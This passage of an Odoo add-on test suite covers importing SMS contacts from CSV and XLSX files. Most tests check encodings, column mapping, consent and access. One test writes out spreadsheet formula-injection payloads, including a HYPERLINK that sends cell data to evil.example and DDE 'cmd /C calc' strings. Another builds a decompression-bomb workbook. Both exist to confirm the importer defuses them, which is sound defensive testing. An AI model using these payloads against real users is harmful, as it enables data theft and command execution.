# Copyright 2026 sms_gateway authors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Importing contacts into an SMS group from CSV and XLSX files."""

import base64
import io
import zipfile

import openpyxl

from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, JsonRpcException, tagged
from odoo.tools import mute_logger

from .test_group import SmsGatewayGroupCase


class SmsGatewayGroupImportCase(SmsGatewayGroupCase):
    """A group to import into, two contacts, helpers. No tests here."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.import_group = (
            cls.env["sms.gateway.group"]
            .with_user(cls.owner)
            .create({"name": "Imported"})
            .with_env(cls.env)
        )
        cls.existing = cls.env["res.partner"].create(
            {
                "name": "Existing Eero",
                "mobile": "+358401110001",
                "sms_consent": "granted",
            }
        )
        cls.by_email = cls.env["res.partner"].create(
            {"name": "Email Emma", "email": "emma@example.com"}
        )

    def _wizard(self, data, filename="contacts.csv", user=None, **values):
        return (
            self.env["sms.gateway.group.import"]
            .with_user(user or self.owner)
            .create(
                dict(
                    {
                        "group_id": self.import_group.id,
                        "file": base64.b64encode(data),
                        "filename": filename,
                    },
                    **values,
                )
            )
        )

    def _import(self, data, filename="contacts.csv", **values):
        wizard = self._wizard(data, filename, **values)
        wizard.action_import()
        return wizard

    def _report_rows(self, wizard):
        """The rows of the report file, as a spreadsheet reads them."""
        workbook = openpyxl.load_workbook(
            io.BytesIO(base64.b64decode(wizard.report_file))
        )
        return [
            [cell.value for cell in row] for row in workbook.worksheets[0].iter_rows()
        ]

    def _members(self):
        return {
            m.partner_id.name: m
            for m in self.env["sms.gateway.group.member"].search(
                [("group_id", "=", self.import_group.id)]
            )
        }

    def _state(self):
        """What a refused file must leave unchanged."""
        return (
            self.env["res.partner"].with_context(active_test=False).search_count([]),
            self.env["sms.gateway.group.member"].search_count([]),
        )


@tagged("post_install", "-at_install", "sms_gateway_group")
class TestSmsGatewayGroupImport(SmsGatewayGroupImportCase):
    # ------------------------------------------------------------------
    # Encodings and separators
    # ------------------------------------------------------------------

    def test_utf8_with_bom_and_commas(self):
        data = (
            "\ufeffName,Mobile,Email,Note\n"
            "Matti Meikäläinen,050 711 0001,matti@example.com,Vapaaehtoinen\n"
            '"Öljy, Ärrä",+358 50 711 0002,,\n'
        ).encode()
        wizard = self._import(data)
        self.assertTrue(wizard.is_imported)
        self.assertEqual((wizard.line_count, wizard.created_count), (2, 2))
        members = self._members()
        self.assertEqual(set(members), {"Matti Meikäläinen", "Öljy, Ärrä"})
        matti = members["Matti Meikäläinen"]
        self.assertEqual(matti.note, "Vapaaehtoinen")
        self.assertEqual(matti.partner_id.sms_number, "+358507110001")
        self.assertEqual(matti.partner_id.sms_consent, "unknown")
        self.assertEqual(matti.partner_id.sms_consent_source, "import")
        self.assertEqual(matti.partner_id.email, "matti@example.com")

    def test_utf8_without_bom_and_semicolons(self):
        data = "name;mobile\nJyväskylän Jussi;0507110003\n".encode()
        self._import(data)
        self.assertIn("Jyväskylän Jussi", self._members())

    def test_cp1250_polish_names(self):
        data = (
            "name;mobile;email;note\n"
            "Łukasz Wiśniewski;+48 601 711 001;lukasz@example.pl;Zażółć gęślą jaźń\n"
            "Żaneta Ćwik;48601711002;;Śląsk\n"
        ).encode("cp1250")
        wizard = self._import(data)
        self.assertEqual(wizard.created_count, 2)
        members = self._members()
        self.assertEqual(set(members), {"Łukasz Wiśniewski", "Żaneta Ćwik"})
        self.assertEqual(members["Łukasz Wiśniewski"].note, "Zażółć gęślą jaźń")
        self.assertEqual(members["Żaneta Ćwik"].partner_id.sms_number, "+48601711002")

    def test_cp1252_swedish_and_finnish_names(self):
        data = (
            "name;mobile;note\n"
            "Åsa Öberg;+46 76 711 00 01;Göteborg\n"
            "Jörgen Ångström;+46 76 711 00 02;\n"
            "Päivi Hämäläinen;050 711 0004;Hämeenlinna\n"
        ).encode("cp1252")
        wizard = self._import(data)
        self.assertEqual(wizard.created_count, 3)
        members = self._members()
        self.assertEqual(
            set(members), {"Åsa Öberg", "Jörgen Ångström", "Päivi Hämäläinen"}
        )
        self.assertEqual(members["Åsa Öberg"].note, "Göteborg")

    def test_xlsx(self):
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(["name", "mobile", "email", "note", "consent"])
        sheet.append(
            ["Excel Elina", 358507110005, "elina@example.com", "xlsx", "granted"]
        )
        sheet.append(["Excel Eino", "050 711 0006", None, None, None])
        buffer = io.BytesIO()
        workbook.save(buffer)
        wizard = self._import(buffer.getvalue(), "contacts.xlsx")
        self.assertEqual(wizard.created_count, 2)
        elina = self._members()["Excel Elina"].partner_id
        self.assertEqual(elina.sms_number, "+358507110005")
        self.assertEqual(elina.sms_consent, "granted")
        self.assertTrue(elina.sms_consent_date)
        self.assertEqual(elina.sms_consent_source, "import")

    # ------------------------------------------------------------------
    # Matching, merging, consent
    # ------------------------------------------------------------------

    def test_match_by_mobile_then_email_and_merge_duplicates(self):
        data = (
            b"name,mobile,email,note,consent\n"
            b"Eero (file),040 111 0001,,known by number,refused\n"
            b"Emma (file),040 111 0002,Emma@Example.com,known by email,\n"
            b"Dup Dora,040 222 0001,,first note,\n"
            b"Dora again,+358 40 222 0001,dora@example.com,second note,\n"
            b"Only Email,,emma@example.com,,\n"
        )
        wizard = self._import(data, default_consent="granted")
        self.assertEqual(wizard.refused_count, 0)
        self.assertEqual(wizard.created_count, 1)
        self.assertEqual(wizard.merged_count, 1)
        self.assertEqual(wizard.added_count, 3)
        members = self._members()
        self.assertEqual(set(members), {"Existing Eero", "Email Emma", "Dup Dora"})
        self.assertEqual(members["Existing Eero"].note, "known by number")
        self.assertEqual(members["Email Emma"].note, "known by email")
        dora = members["Dup Dora"]
        self.assertEqual(dora.note, "first note")
        self.assertEqual(dora.partner_id.email, "dora@example.com")
        self.assertEqual(dora.partner_id.sms_consent, "granted")
        # existing contacts keep their consent, and the report says so
        self.assertEqual(self.existing.sms_consent, "granted")
        eero_line = wizard.line_ids.filtered(lambda li: li.line_number == 2)
        self.assertEqual(eero_line.result, "matched_mobile")
        self.assertIn("kept", eero_line.message)
        merged = wizard.line_ids.filtered(lambda li: li.result == "merged")
        self.assertEqual(merged.line_number, 5)
        self.assertIn("line 4", merged.message)
        report = self._report_rows(wizard)
        self.assertEqual(len(report), 6)  # header + every line
        self.assertTrue(wizard.report_filename.endswith("-report.xlsx"))

    def test_reimport_updates_notes_not_duplicates(self):
        self._import(b"name,mobile,note\nRe Riku,0401113333,old\n")
        wizard = self._import(b"name,mobile,note\nRe Riku,0401113333,new\n")
        self.assertEqual((wizard.added_count, wizard.already_count), (0, 1))
        self.assertEqual(self._members()["Re Riku"].note, "new")

    def test_import_another_file_keeps_the_window_title(self):
        wizard = self._import(b"name,mobile\nTitle Tiina,0401116666\n")
        action = wizard.action_back()
        self.assertEqual(action["name"], f"Import into {wizard.group_id.display_name}")
        self.assertEqual(wizard.state, "draft")

    def test_members_already_in_the_group_are_counted_as_such(self):
        """A line for a contact who is already a member, with no new note,
        is told as "already members", not lost from the counts."""
        self._import(b"name,mobile\nMatti Member,0401114444\n")
        wizard = self._import(
            b"name,mobile\nMatti Member,0401114444\nNew Nelli,0401115555\n"
        )
        self.assertEqual((wizard.added_count, wizard.already_count), (1, 1))
        self.assertIn("already members: 1", wizard.summary)

    def test_refused_lines_are_reported_with_reasons(self):
        long_note = "n" * 256
        data = (
            "name,mobile,email,note,consent\n"
            "Good Guy,040 333 0001,,,\n"
            "Bad Number,12,,,\n"
            ",040 333 0002,,,\n"
            f"Long Note,040 333 0003,,{long_note},\n"
            "Bad Mail,040 333 0004,not-an-email,,\n"
            "Odd Consent,040 333 0005,,,maybe\n"
            "Too,040 333 0006,,,,extra\n"
            "No Contact Info,,,,\n"
            "Unknown Email,,nobody@example.com,,\n"
            "Landline Lauri,09 333 0007,,,\n"
        ).encode()
        wizard = self._import(data)
        self.assertTrue(wizard.is_imported)
        self.assertEqual(wizard.refused_count, 7)
        # an unknown consent word no longer refuses the line (issue 11): the
        # contact is imported with its consent unknown, and a warning
        self.assertEqual(
            set(self._members()), {"Good Guy", "Landline Lauri", "Odd Consent"}
        )
        odd = self._members()["Odd Consent"].partner_id
        self.assertEqual(odd.sms_consent, "unknown")
        odd_line = wizard.line_ids.filtered(lambda li: li.line_number == 7)
        self.assertTrue(odd_line.has_warning)
        self.assertIn('"maybe"', odd_line.message)
        messages = {
            line.line_number: line.message
            for line in wizard.line_ids
            if line.result == "refused"
        }
        expected = {
            3: "Invalid number",
            4: "Missing name",
            5: "Note too long: 256",
            6: "Invalid email",
            8: "6 cells",
            9: "No mobile number and no email",
            10: "no contact has this email",
        }
        self.assertEqual(set(messages), set(expected))
        for number, text in expected.items():
            self.assertIn(text, messages[number])
        landline = wizard.line_ids.filtered(lambda li: li.line_number == 11)
        self.assertIn("not a mobile number", landline.message)
        self.assertIn("7 refused, 2 imported with a warning", wizard.summary)
        self.assertEqual(wizard.result_level, "warning")

    def test_all_or_nothing(self):
        before = self._state()
        data = b"name,mobile\nFine Fanny,040 444 0001\nBroken,abc\n"
        wizard = self._import(data, all_or_nothing=True)
        self.assertFalse(wizard.is_imported)
        self.assertEqual(self._state(), before)
        self.assertIn("Nothing was imported", wizard.summary)
        self.assertEqual(wizard.line_ids.mapped("line_number"), [3])
        # the same file imports the good line without the option
        wizard = self._import(data)
        self.assertEqual(set(self._members()), {"Fine Fanny"})

    def test_opted_out_number_is_flagged(self):
        self.env["phone.blacklist"].sudo().add("+358404440009")
        wizard = self._import(b"name,mobile,consent\nOut Otto,040 444 0009,granted\n")
        otto = self._members()["Out Otto"].partner_id
        self.assertEqual(otto.sms_consent, "refused")
        self.assertIn("opt-out list", wizard.line_ids.message)

    # ------------------------------------------------------------------
    # Bad files: a clear message, nothing changed
    # ------------------------------------------------------------------

    def test_bad_files_change_nothing(self):
        png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
        garbage = bytes((i * 7919) % 256 for i in range(5000))
        big = b"name,mobile\n" + b"Big Bertta,0401234567\n" * (20 * 1024 * 1024 // 22)
        cases = [
            (b"", "contacts.csv", "empty"),
            (b"\xef\xbb\xbf\r\n  \n", "contacts.csv", "empty"),
            (b"name,mobile,email,note\n", "contacts.csv", "no contact lines"),
            (b"name;mobile\n;;\n", "contacts.csv", "no contact lines"),
            (png, "contacts.csv", "PNG"),
            (garbage, "contacts.csv", "CSV or XLSX"),
            (b"PK\x03\x04not really a zip", "contacts.xlsx", "XLSX"),
            (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "old.xls", ".xls"),
            (big, "big.csv", "at most 10 MB"),
        ]
        before = self._state()
        for data, filename, text in cases:
            with self.subTest(text=text, filename=filename):
                wizard = self._wizard(data, filename)
                with self.assertRaises(UserError) as caught:
                    wizard.action_import()
                self.assertIn(text, str(caught.exception))
                self.assertEqual(self._state(), before)
        wizard = (
            self.env["sms.gateway.group.import"]
            .with_user(self.owner)
            .create({"group_id": self.import_group.id})
        )
        with self.assertRaisesRegex(UserError, "Choose a CSV"):
            wizard.action_import()

    def test_report_never_runs_a_formula(self):
        payloads = [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ]
        quoted = [payload.replace('"', '""') for payload in payloads]
        data = "name,mobile,email,note\n" + "".join(
            f'"{payload}",040 333 00{i:02d},,"{payload}"\n'
            for i, payload in enumerate(quoted)
        )
        data += '"=1+1",=1+1,=1+1@example.com,\n'
        wizard = self._import(data.encode())
        raw = base64.b64decode(wizard.report_file)
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        self.assertNotIn("<f>", sheet_xml)
        self.assertNotIn("<f ", sheet_xml)
        workbook = openpyxl.load_workbook(io.BytesIO(raw))
        cells = [
            cell
            for row in workbook.worksheets[0].iter_rows(min_row=2)
            for cell in row
            if cell.value is not None
        ]
        self.assertTrue(cells)
        self.assertTrue(all(cell.data_type in ("s", "n") for cell in cells))
        names = [row[1] for row in self._report_rows(wizard)[1:]]
        # the values are kept as they were typed, only never as formulas
        self.assertEqual(names[: len(payloads)], [p.strip() for p in payloads])
        self.assertEqual(names[-1], "=1+1")
        mobiles = [row[2] for row in self._report_rows(wizard)[1:]]
        self.assertEqual(mobiles[-1], "=1+1")

    def test_oversized_xlsx_gets_a_clear_message_and_imports_nothing(self):
        def workbook(sheet_xml, shared_xml=None):
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr(
                    "xl/workbook.xml",
                    '<workbook xmlns="http://schemas.openxmlformats.org/'
                    'spreadsheetml/2006/main" xmlns:r="http://schemas.'
                    'openxmlformats.org/officeDocument/2006/relationships">'
                    '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>'
                    "</workbook>",
                )
                rels = (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/relationships"><Relationship Id="rId1" Type="'
                    "http://schemas.openxmlformats.org/officeDocument/2006/"
                    'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                )
                if shared_xml is not None:
                    rels += (
                        '<Relationship Id="rId2" Type="http://schemas.openxmlformats'
                        '.org/officeDocument/2006/relationships/sharedStrings" '
                        'Target="sharedStrings.xml"/>'
                    )
                    with archive.open("xl/sharedStrings.xml", "w") as part:
                        for chunk in shared_xml:
                            part.write(chunk)
                archive.writestr(
                    "xl/_rels/workbook.xml.rels", rels + "</Relationships>"
                )
                with archive.open("xl/worksheets/sheet1.xml", "w") as part:
                    for chunk in sheet_xml:
                        part.write(chunk)
            return buffer.getvalue()

        main = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        header = b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'

        def bomb():
            yield b"<sst>"
            block = b"<si><t>" + b"x" * 30000 + b"</t></si>"
            for _ in range(200 * 1024 * 1024 // len(block)):
                yield block
            yield b"</sst>"

        def empty_rows():
            yield main + b"<sheetData>" + header
            yield b"".join(b'<row r="%d"/>' % i for i in range(2, 1_000_002))
            yield b"</sheetData></worksheet>"

        cases = [
            (workbook([main, b"<sheetData/></worksheet>"], bomb()), "unpacks to"),
            (workbook(empty_rows()), "counting the empty ones"),
            (
                workbook(
                    [
                        main + b"<sheetData>" + header,
                        (
                            b'<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t>'
                            b"</is></c></row></sheetData></worksheet>"
                        ),
                    ]
                ),
                "beyond column",
            ),
        ]
        # the limit meant for each file, not the time limit of a busy machine
        self.env["ir.config_parameter"].sudo().set_param(
            "sms_gateway.group_import_max_seconds", "600"
        )
        before = self._state()
        for data, text in cases:
            with self.subTest(text=text):
                self.assertLess(len(data), 10 * 1024 * 1024)  # under the upload limit
                with self.assertRaisesRegex(UserError, text) as caught:
                    self._import(data, "bomb.xlsx")
                self.assertIn("Nothing was imported", str(caught.exception))
                self.assertEqual(self._state(), before)

    def test_read_time_limit(self):
        self.env["ir.config_parameter"].sudo().set_param(
            "sms_gateway.group_import_max_seconds", "0"
        )
        data = b"name,mobile\n" + b"Slow Sam,0401234567\n" * 10000
        before = self._state()
        with self.assertRaisesRegex(UserError, "took more than 0 seconds"):
            self._import(data)
        self.assertEqual(self._state(), before)

    def test_too_many_lines(self):
        self.env["ir.config_parameter"].sudo().set_param(
            "sms_gateway.group_import_max_lines", "3"
        )
        data = b"name,mobile\n" + b"".join(
            b"L%d,04055500%02d\n" % (i, i) for i in range(4)
        )
        before = self._state()
        with self.assertRaisesRegex(UserError, "more than 3 lines"):
            self._import(data)
        self.assertEqual(self._state(), before)

    # ------------------------------------------------------------------
    # Access
    # ------------------------------------------------------------------

    def test_only_editors_import(self):
        data = b"name,mobile\nSneaky Sam,040 666 0001\n"
        before = self._state()
        with self.assertRaises(AccessError):
            self._import(data, user=self.stranger)
        self.import_group.shared_user_ids = self.colleague
        with self.assertRaises(AccessError):
            self._import(data, user=self.colleague)
        self.assertEqual(self._state(), before)
        self.import_group.shared_can_edit = True
        # the colleague may edit the group but not create contacts
        wizard = self._import(data, user=self.colleague)
        self.assertEqual(wizard.refused_count, 1)
        self.assertIn("Contact Creation", wizard.line_ids.message)
        wizard = self._import(b"name,mobile\nEero,+358401110001\n", user=self.colleague)
        self.assertEqual(wizard.added_count, 1)
        self.assertIn("Existing Eero", self._members())


@tagged("post_install", "-at_install", "sms_gateway_group")
class TestSmsGatewayGroupImportFirstDay(SmsGatewayGroupImportCase):
    """Files as Finnish, Swedish, Polish and Russian users export them
    (issue 11, item 3)."""

    def _columns(self, wizard):
        return [(c.header, c.sample, c.field) for c in wizard.column_ids]

    # ------------------------------------------------------------------
    # Country of local numbers
    # ------------------------------------------------------------------

    def test_local_numbers_are_read_with_the_sms_default_country(self):
        # a Swedish admin: the company is in Finland, SMS default is Sweden
        self.env.company.sms_gateway_country_id = self.country_se
        wizard = self._wizard(b"namn;mobil\nAsa Ek;070 711 00 01\n")
        self.assertEqual(wizard.country_id, self.country_se)
        self.assertIn("Sweden (+46)", wizard.country_hint)
        wizard.action_import()
        self.assertEqual(wizard.result_level, "success")
        self.assertEqual(
            self._members()["Asa Ek"].partner_id.sms_number, "+46707110001"
        )
        # the user changes it for one file of Polish numbers
        wizard = self._import(
            "Imię;Telefon\nOla;601 711 003\n".encode(), country_id=self.country_pl.id
        )
        self.assertEqual(self._members()["Ola"].partner_id.sms_number, "+48601711003")
        # without an SMS default country, the company's country
        self.env.company.sms_gateway_country_id = False
        self.assertEqual(self._wizard(b"name,mobile\n").country_id, self.country_fi)

    # ------------------------------------------------------------------
    # Files of five languages and their encodings
    # ------------------------------------------------------------------

    def test_files_people_export_in_their_languages(self):
        finnish = (
            "Etunimi;Sukunimi;Matkapuhelin;Sähköposti;Suostumus\n"
            "Päivi;Hämäläinen;050 711 0101;paivi@example.fi;Kyllä\n"
            "Åke;Öhman;050 711 0102;;ei\n"
        )
        swedish = (
            "Namn;Mobil;E-post;Samtycke\n"
            "Åsa Öberg;070 711 01 03;;Ja\n"
            "Jörgen Ångström;070 711 01 04;;nej\n"
        )
        polish = (
            "Imię i nazwisko;Telefon komórkowy;E-mail;Zgoda\n"
            "Łukasz Wiśniewski;601 711 105;;TAK\n"
            "Żaneta Ćwik-Gęśla;601 711 106;;nie\n"
        )
        russian = (
            "ФИО;Мобильный телефон;Почта;Согласие\n"
            "Иван Петров;916 711 01 07;;да\n"
            "Сёмин Пётр Ильич;916 711 01 08;;Нет\n"
        )
        cases = [
            (finnish, "cp1252", self.country_fi, "+358507110101"),
            (finnish, "utf-8-sig", self.country_fi, "+358507110101"),
            (swedish, "cp1252", self.country_se, "+46707110103"),
            (swedish, "utf-8", self.country_se, "+46707110103"),
            (polish, "cp1250", self.country_pl, "+48601711105"),
            (polish, "utf-8", self.country_pl, "+48601711105"),
            (russian, "cp1251", self.country_ru, "+79167110107"),
            (russian, "utf-8", self.country_ru, "+79167110107"),
        ]
        for text, encoding, country, first_number in cases:
            with self.subTest(first=text.split("\n")[1], encoding=encoding):
                wizard = self._import(text.encode(encoding), country_id=country.id)
                self.assertEqual(wizard.state, "done", self._columns(wizard))
                self.assertEqual(wizard.result_level, "success", wizard.summary)
                rows = [line.split(";") for line in text.splitlines()[1:]]
                expected = {
                    " ".join(row[:2]) if text is finnish else row[0] for row in rows
                }
                members = self._members()
                self.assertEqual(set(members), expected)
                first, second = (
                    members[name].partner_id
                    for name in sorted(expected, key=lambda n: text.index(n.split()[0]))
                )
                self.assertEqual(first.sms_number, first_number)
                self.assertEqual(
                    (first.sms_consent, second.sms_consent), ("granted", "refused")
                )
                # the next file creates them again (not existing, not opted out)
                numbers = (first | second).mapped("sms_number")
                (first | second).unlink()
                self.env["phone.blacklist"].sudo().with_context(
                    active_test=False
                ).search([("number", "in", numbers)]).unlink()

    def test_xlsx_with_polish_headers_and_first_and_last_names(self):
        workbook = openpyxl.Workbook()
        workbook.active.append(["Imię", "Nazwisko", "Telefon", "Zgoda"])
        workbook.active.append(["Ewa", "Łęcka", 48601711201, "x"])
        buffer = io.BytesIO()
        workbook.save(buffer)
        wizard = self._import(buffer.getvalue(), "kontakty.xlsx")
        self.assertEqual(wizard.result_level, "success")
        ewa = self._members()["Ewa Łęcka"].partner_id
        self.assertEqual((ewa.sms_number, ewa.sms_consent), ("+48601711201", "granted"))

    def test_utf8_file_with_one_windows_line_is_refused_never_garbled(self):
        data = (
            "name,mobile\nMatti Meikäläinen,050 711 0201\n".encode()
            + "Åsa Öberg,050 711 0202\n".encode("cp1252")
            + "Jyväskylän Jussi,050 711 0203\n".encode()
        )
        before = self._state()
        with self.assertRaises(UserError) as caught:
            self._import(data)
        message = str(caught.exception)
        self.assertIn("line 3 is not UTF-8", message)
        self.assertIn("CSV UTF-8", message)
        self.assertEqual(self._state(), before)
        self.assertFalse(self.env["res.partner"].search_count([("name", "like", "Ã")]))
        # the line retyped: the file goes in with its letters
        data = data.replace("Åsa Öberg".encode("cp1252"), "Åsa Öberg".encode())
        self._import(data)
        self.assertIn("Åsa Öberg", self._members())

    def test_windows_encoding_chosen_for_a_utf8_file_is_refused_never_garbled(self):
        """Read as Windows-1252 (which reads any byte), the UTF-8 lines of a
        file would be imported as "PÃ¤ivi": the import says which line is
        UTF-8 and imports nothing."""
        data = (
            "name,mobile\nPäivi Äänekoski,050 711 0211\n".encode()
            + "Åsa Öberg,050 711 0212\n".encode("cp1252")
        )
        before = self._state()
        for file in (data, "name,mobile\nPäivi Äänekoski,050 711 0211\n".encode()):
            with self.assertRaises(UserError) as caught:
                self._import(file, encoding="cp1252")
            message = str(caught.exception)
            self.assertIn("Line 2 is UTF-8", message)
            self.assertIn("Windows-1252 (Western", message)
            self.assertIn("Nothing was imported", message)
            self.assertEqual(self._state(), before)
        self.assertFalse(self.env["res.partner"].search_count([("name", "like", "Ã")]))

    def test_encoding_chosen_by_the_user(self):
        # a file whose encoding its letters do not tell
        data = "name;mobile;consent\nЯн;+7 916 711 02 04;да\n".encode("cp1251")
        with self.assertRaisesRegex(UserError, "choose the encoding"):
            self._import(data)
        wizard = self._import(data, encoding="cp1251")
        self.assertEqual(wizard.result_level, "success")
        self.assertIn("Ян", self._members())
        # a wrong choice is refused with the line, not read into names
        with self.assertRaisesRegex(UserError, "Line 2 cannot be read as utf-8"):
            self._import(data, encoding="utf-8")

    def test_encoding_changed_on_the_mapping_step_reads_the_file_again(self):
        data = "Кто;Телефон\nЕлена;+79167110205\n".encode("cp1251")
        wizard = self._wizard(data, encoding="cp1252")
        wizard.action_read_file()
        self.assertEqual(wizard.state, "map")
        self.assertEqual(wizard.column_ids[0].header, "Êòî")  # as the user chose
        self.assertIn("1252", wizard.file_encoding)
        wizard.encoding = "cp1251"
        wizard.action_import()  # shows the columns read again, imports nothing
        self.assertEqual(wizard.state, "map")
        self.assertEqual(self._columns(wizard)[0], ("Кто", "Елена", "ignore"))
        wizard.column_ids[0].field = "name"
        wizard.action_import()
        self.assertEqual(wizard.result_level, "success")
        self.assertIn("Елена", self._members())

    # ------------------------------------------------------------------
    # Mapping the columns
    # ------------------------------------------------------------------

    def test_unrecognised_columns_ask_for_the_mapping(self):
        data = b"Member no,Who,Number,Birthday\n17,Kaisa Koo,050 711 0301,1.1.\n"
        wizard = self._wizard(data)
        before = self._state()
        wizard.action_import()  # asks, imports nothing
        self.assertEqual(self._state(), before)
        self.assertEqual(wizard.state, "map")
        self.assertEqual(
            self._columns(wizard),
            [
                ("Member no", "17", "ignore"),
                ("Who", "Kaisa Koo", "ignore"),
                ("Number", "050 711 0301", "ignore"),
                ("Birthday", "1.1.", "ignore"),
            ],
        )
        with self.assertRaisesRegex(UserError, "phone numbers"):
            wizard.action_import()
        wizard.column_ids[2].field = "mobile"
        with self.assertRaisesRegex(UserError, "names"):
            wizard.action_import()
        wizard.column_ids[1].field = "mobile"
        with self.assertRaisesRegex(UserError, "More than one column is set to Phone"):
            wizard.action_import()
        self.assertEqual(self._state(), before)
        wizard.column_ids[1].field = "name"
        wizard.action_import()
        self.assertEqual(wizard.state, "done")
        self.assertEqual(wizard.result_level, "success")
        kaisa = self._members()["Kaisa Koo"].partner_id
        self.assertEqual(kaisa.sms_number, "+358507110301")
        self.assertNotIn("1.1.", kaisa.comment or "")

    def test_known_columns_are_listed_too_and_doubles_left_to_ignore(self):
        data = "Nimi,Puhelin,Mobil,Syntymäpäivä\nEino,0507110302,0507110399,1.1.\n"
        wizard = self._wizard(data.encode())
        wizard.action_read_file()
        self.assertEqual(
            [c.field for c in wizard.column_ids], ["name", "mobile", "ignore", "ignore"]
        )
        wizard.action_import()
        self.assertEqual(self._members()["Eino"].partner_id.sms_number, "+358507110302")

    # ------------------------------------------------------------------
    # Consent words and the result
    # ------------------------------------------------------------------

    def test_unknown_consent_word_leaves_consent_unknown_with_a_warning(self):
        data = (
            "Nimi;Puhelin;Suostumus\n"
            "Kyllä Kalle;0507110401;kyllä\n"
            "Ehkä Eeva;0507110402;ehkä\n"
            "Ei Erkki;0507110403;EI\n"
        ).encode()
        wizard = self._import(data, default_consent="granted")
        members = self._members()
        self.assertEqual(members["Kyllä Kalle"].partner_id.sms_consent, "granted")
        self.assertEqual(members["Ehkä Eeva"].partner_id.sms_consent, "unknown")
        self.assertEqual(members["Ei Erkki"].partner_id.sms_consent, "refused")
        self.assertEqual((wizard.refused_count, wizard.warned_count), (0, 1))
        self.assertEqual(wizard.result_level, "warning")
        line = wizard.line_ids
        self.assertEqual((line.line_number, line.has_warning), (3, True))
        self.assertIn('"ehkä"', line.message)
        self.assertIn(
            "3 lines read: 3 imported, 0 refused, 1 imported with a warning",
            wizard.summary,
        )

    def test_green_only_when_everything_went_in(self):
        wizard = self._import(b"name,mobile\nAll Good,0507110501\n")
        self.assertEqual(wizard.result_level, "success")
        self.assertIn("all imported", wizard.summary)
        wizard = self._import(b"name,mobile\nSome Good,0507110502\nBad,12\n")
        self.assertEqual(wizard.result_level, "warning")
        self.assertIn("1 imported, 1 refused", wizard.summary)
        wizard = self._import(
            b"name,mobile\nSome Good,0507110503\nBad,12\n", all_or_nothing=True
        )
        self.assertEqual(wizard.result_level, "danger")
        wizard = self._import(b"name,mobile\nBad,12\nWorse,13\n")
        self.assertEqual(wizard.result_level, "danger")
        # numbers of the wrong country: every line refused is never green
        self.env.company.sms_gateway_country_id = self.country_se
        wizard = self._import(b"name,mobile\nLocal,12 34\n")
        self.assertNotEqual(wizard.result_level, "success")

    def test_too_big_file_names_the_limit(self):
        self.env["ir.config_parameter"].sudo().set_param(
            "sms_gateway.group_import_max_size_mb", "1"
        )
        data = b"name,mobile\n" + b"Big Bertta,0401234567\n" * (2 * 1024 * 1024 // 22)
        with self.assertRaisesRegex(UserError, "at most 1 MB"):
            self._import(data)

    # ------------------------------------------------------------------
    # The columns of an import are its creator's alone
    # ------------------------------------------------------------------

    def test_columns_stay_with_their_creator(self):
        data = b"Who,Number\nSecret Sanna,0507110601\n"
        wizard = self._wizard(data)
        wizard.action_read_file()
        column = wizard.column_ids[0].with_user(self.stranger)
        Column = self.env["sms.gateway.group.import.column"].with_user(self.stranger)
        self.assertFalse(Column.search([("wizard_id", "=", wizard.id)]))
        with self.assertRaises(AccessError):
            column.read(["sample"])
        with self.assertRaises(AccessError):
            column.write({"field": "name"})
        with self.assertRaises(AccessError):
            Column.create({"wizard_id": wizard.id, "field": "mobile"})
        self.assertEqual(wizard.column_ids[0].field, "ignore")


@tagged("post_install", "-at_install", "sms_gateway_group")
class TestSmsGatewayGroupImportRpc(SmsGatewayGroupCase, HttpCase):
    """The import wizard as the web client drives it, as a User."""

    def _call(self, model, method, args, **kwargs):
        return self.make_jsonrpc_request(
            "/web/dataset/call_kw",
            {"model": model, "method": method, "args": args, "kwargs": kwargs},
        )

    def _button(self, method, wizard_id):
        return self.make_jsonrpc_request(
            "/web/dataset/call_button",
            {
                "model": "sms.gateway.group.import",
                "method": method,
                "args": [[wizard_id]],
                "kwargs": {"context": {"lang": "en_US"}},
            },
        )

    def test_import_with_mapping_over_rpc(self):
        self.env.company.sms_gateway_country_id = self.country_pl
        group = (
            self.env["sms.gateway.group"]
            .with_user(self.owner)
            .create({"name": "Członkowie"})
        )
        self.authenticate("grp_owner", "grp_owner")
        model = "sms.gateway.group.import"
        action = self._call("sms.gateway.group", "action_import", [group.ids])
        context = action["context"]
        views = self._call(model, "get_views", [], views=[[False, "form"]])
        arch = views["views"]["form"]["arch"]
        for name in ("column_ids", "encoding", "country_id", "result_level"):
            self.assertIn(f'name="{name}"', arch)
        spec = {
            "group_id": {"fields": {"display_name": {}}},
            "country_id": {"fields": {"display_name": {}}},
            "country_hint": {},
            "encoding": {},
            "state": {},
        }
        new = self._call(model, "onchange", [[], {}, [], spec], context=context)[
            "value"
        ]
        self.assertEqual(new["country_id"]["display_name"], "Poland")
        self.assertIn("Poland (+48)", new["country_hint"])
        self.assertEqual(new["encoding"], "auto")
        data = (
            "Nr;Osoba;Komórka służbowa;Zgoda\n1;Łucja Żak;601 711 701;tak\n"
        ).encode("cp1250")
        saved = self._call(
            model,
            "web_save",
            [
                [],
                {
                    "group_id": group.id,
                    "file": base64.b64encode(data).decode(),
                    "filename": "członkowie.csv",
                    "country_id": new["country_id"]["id"],
                },
            ],
            specification={"state": {}},
            context=context,
        )
        wizard_id = saved[0]["id"]
        self._button("action_read_file", wizard_id)
        column_spec = {
            "column_ids": {
                "fields": {"header": {}, "sample": {}, "field": {}, "sequence": {}}
            },
            "state": {},
            "file_encoding": {},
        }
